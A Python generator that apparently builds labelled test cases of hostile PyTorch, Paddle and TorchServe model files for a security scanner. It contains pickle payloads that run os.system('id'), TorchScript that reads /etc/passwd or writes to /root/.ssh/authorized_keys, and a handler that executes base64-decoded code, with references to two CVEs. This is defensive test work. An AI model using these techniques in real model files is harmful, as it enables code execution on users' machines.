"""PyTorch's containers: zip checkpoints, the five-pickle legacy stream, the tar before it, TorchScript, torch.package,
exported programs, model archives.

weights_only is no excuse: CVE-2025-32434 runs code by the legacy tar path, CVE-2026-24747 abuses SETITEM and tensor numbers.
"""

import io
import tarfile

from pkl import *
from rawzip import Entry, archive

ref = line_ref  # as torch writes them: protocol 2
FAMILY = "torch"
RAN = call("os", "system", "id")
MAGIC = 0x1950A86A20F9469CFC6C
SYSTEM_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def long(number):
    data = number.to_bytes((number.bit_length() + 8) // 8, "little")
    return Code(b"\x8a" + bytes([len(data)]) + data)


def tensor(key="0", storage=ref("torch", "FloatStorage"), shape=(4,), stride=(1,), offset=0, numel=4, location="cpu", view=()):
    persistent = Code(value(("storage", storage, key, location, numel, *view)) + BINPERSID)
    return apply(ref("torch._utils", "_rebuild_tensor_v2"), persistent, offset, shape, stride, False,
                 Code(ref("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE))  # fmt: skip


def checkpoint(code, root="archive", extra=(), storages=1):
    return archive(
        Entry(f"{root}/data.pkl", pickled(code, version=2)),
        *[Entry(f"{root}/data/{i}", bytes(16)) for i in range(storages)],
        Entry(f"{root}/version", b"3\n"),
        *extra,
    )


def legacy(magic=long(MAGIC), version=value(1001), system=value(SYSTEM_INFO), obj=None, keys=value(["0"]), tail=None):
    storages = (4).to_bytes(8, "little") + bytes(16)
    parts = (magic, version, system, obj or value({"w": tensor(view=(None,))}), keys)
    return b"".join(pickled(part, version=2) for part in parts) + (storages if tail is None else tail)


def make(corpus):
    def case(name, data, file="model.pt", twin=None, expected="fail", about=""):
        corpus.attack(FAMILY, name, {file: data}, expected=expected, about=about, twin=twin and {file: twin})

    zips(case)
    legacies(case)
    packages(case)
    numbers(case)
    corpus.run([scripts])


def zips(case):
    honest = checkpoint(value({"w": tensor()}))
    case("zip", checkpoint(value({"w": tensor(), "x": RAN})), twin=honest)
    case("zip-bin-name", checkpoint(RAN), file="pytorch_model.bin", twin=honest)
    case("zip-second-pickle", checkpoint(value({"w": tensor()}), extra=[Entry("archive/extra.pkl", EVIL)]), twin=honest)
    case("zip-pickle-as-storage", archive(Entry("a/data.pkl", pickled(value({"w": tensor(numel=len(EVIL) // 4)}), version=2)),
         Entry("a/data/0", EVIL), Entry("a/version", b"3\n")), expected="not-pass",
         about="the bytes of a tensor are a hostile pickle: nothing loads them (doubtful label)")  # fmt: skip
    case("zip-two-roots", checkpoint(value({"w": tensor()}), extra=[Entry("other/data.pkl", EVIL)]))
    case("zip-uppercase", archive(Entry("archive/DATA.PKL", EVIL), Entry("archive/version", b"3\n")))
    case("zip-deflated", archive(Entry("m/data.pkl", pickled(RAN, version=2), method=8), Entry("m/version", b"3\n", method=8)))
    case("zip-bad-crc", archive(Entry("m/data.pkl", pickled(RAN, version=2), crc=1), Entry("m/version", b"3\n")))
    case("zip-broken-after", archive(Entry("m/data.pkl", proto(2) + RAN + b"\xff\xff"), Entry("m/version", b"3\n")))
    case("zip-lightning", checkpoint(value({"state_dict": {"w": tensor()}, "hyper_parameters": {"lr": 0.1, "cb": RAN}})), file="last.ckpt")
    case("zip-subclass", checkpoint(value({"w": call("torch._tensor", "_rebuild_from_type_v2", ref("os", "system"), ref("builtins", "str"), ("id",), None)})))
    case("zip-persid-global", checkpoint(value({"w": tensor(storage=ref("subprocess", "Popen"))})))
    case("zip-module-source", checkpoint(Code(value(("module", call("os", "popen", "id"), "m.py", "source")) + BINPERSID)))
    case("paddle", pickled(value({"w": call("numpy.core.multiarray", "_reconstruct", ref("os", "system"), (0,), b"b"), "x": RAN}), version=4),
         file="model.pdparams")  # fmt: skip


def legacies(case):
    honest = legacy()
    case("legacy-object", legacy(obj=RAN), twin=honest)
    case("legacy-magic", legacy(magic=Code(RAN + POP + long(MAGIC))), twin=honest, about="the first pickle, the magic, calls")
    case("legacy-magic-computed", legacy(magic=call("builtins", "int", str(MAGIC))), expected="not-pass")
    case("legacy-version", legacy(version=Code(RAN + POP + value(1001))))
    case("legacy-system", legacy(system=call("builtins", "eval", "{}")))
    case("legacy-keys", legacy(keys=Code(RAN + POP + value(["0"]))))
    case("legacy-tail", legacy() + EVIL, about="a pickle behind the storages")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in (("storages", EVIL), ("tensors", pickled(value(0))), ("pickle", pickled(value({"a": 1}), version=2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    case("legacy-tar", out.getvalue(), about="the oldest format, its storages hostile (CVE-2025-32434)")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in (("sys_info", pickled(value(SYSTEM_INFO))), ("pickle", pickled(RAN)), ("tensors", b""), ("storages", pickled(value(0)))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    case("legacy-tar-pickle", out.getvalue(), file="model.pth")


def packages(case):
    package = (Entry("p/.data/extern_modules", b"torch\nos\n"), Entry("p/.data/version", b"6\n"))
    case("package-source", archive(*package, Entry("p/model.py", b"import os\nos.system('id')\n"),
         Entry("p/model/model.pkl", pickled(call("model", "Net")))), about="torch.package: the source runs on import")  # fmt: skip
    case("package-pickle", archive(*package, Entry("p/m/model.pkl", EVIL)))
    case("exported", archive(Entry("e/models/model.json", b"{}"), Entry("e/data/constants/model_constants_config.json", b"{}"),
                             Entry("e/data/sample_inputs/model.pt", checkpoint(RAN)), Entry("e/version", b"0")), file="model.pt2")  # fmt: skip
    case("mar-handler", archive(Entry("MAR-INF/MANIFEST.json", b'{"model": {"handler": "h.py", "serializedFile": "m.pt"}}'),
                                Entry("h.py", b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('id')\n"),
                                Entry("m.pt", checkpoint(value({"w": tensor()})))), file="net.mar")  # fmt: skip
    case("mar-pickle", archive(Entry("MAR-INF/MANIFEST.json", b"{}"), Entry("m.pt", checkpoint(RAN))), file="net.mar")


def scripts(corpus):
    """Compiled by torch itself, then changed entry by entry."""
    import warnings
    import zipfile

    import torch

    warnings.simplefilter("ignore")

    class Fine(torch.nn.Module):
        def forward(self, x):
            return torch.relu(x)

    class Reads(torch.nn.Module):
        def forward(self, x):
            return torch.from_file("/etc/passwd", False, 64)

    class Writes(torch.nn.Module):
        def forward(self, x):
            torch.save(x, "/root/.ssh/authorized_keys")
            return x

    def saved(module, replace=None, add=None):
        out = io.BytesIO()
        torch.jit.save(torch.jit.script(module), out)
        with zipfile.ZipFile(out) as whole:
            entries = {name: whole.read(name) for name in whole.namelist()}
        root = next(iter(entries)).split("/")[0]
        entries.update({f"{root}/{name}": data for name, data in {**(replace or {}), **(add or {})}.items()})
        return archive(*[Entry(name, data) for name, data in entries.items()])

    def case(name, data, file="model.pt", about=""):
        corpus.attack(FAMILY, name, {file: data}, twin={file: saved(Fine())}, about=about)

    case("script-constants", saved(Fine(), {"constants.pkl": EVIL}))
    case("script-data", saved(Fine(), {"data.pkl": EVIL}))
    case("script-from-file", saved(Reads()), about="TorchScript code that maps a file of the host")
    case("script-save", saved(Writes()), about="TorchScript code that writes to a path of the host")
    case("script-bytecode", saved(Fine(), add={"bytecode.pkl": EVIL}), file="model.ptl")
    case("script-extra-files", saved(Fine(), add={"extra/hook.pkl": EVIL}))
    case("script-native", saved(Fine(), add={"extra/lib.so": b"\x7fELF\x02\x01\x01" + bytes(60)}))


def numbers(case):
    def one(**facts):
        return checkpoint(value({"w": tensor(**facts)}))

    case("shape-beyond-storage", one(shape=(2**30,)), expected="not-pass", about="a shape larger than its storage")
    case("negative-offset", one(offset=-1), expected="not-pass")
    case("negative-stride", one(stride=(-1,)), expected="not-pass")
    case("offset-beyond", one(offset=2**20), expected="not-pass")
    case("numel-lie", one(numel=2**31 - 1, shape=(2**31 - 1,)), expected="not-pass", about="more numbers than the entry has bytes")
    case("rank-mismatch", one(shape=(2, 2), stride=(1,)), expected="not-pass")
    case("storage-missing", one(key="17"), expected="not-pass")
    case("setitem-on-tensor", checkpoint(Code(tensor() + value(0) + value(1.5) + SETITEM)), expected="not-pass",
         about="SETITEM on a tensor (CVE-2026-24747)")  # fmt: skip
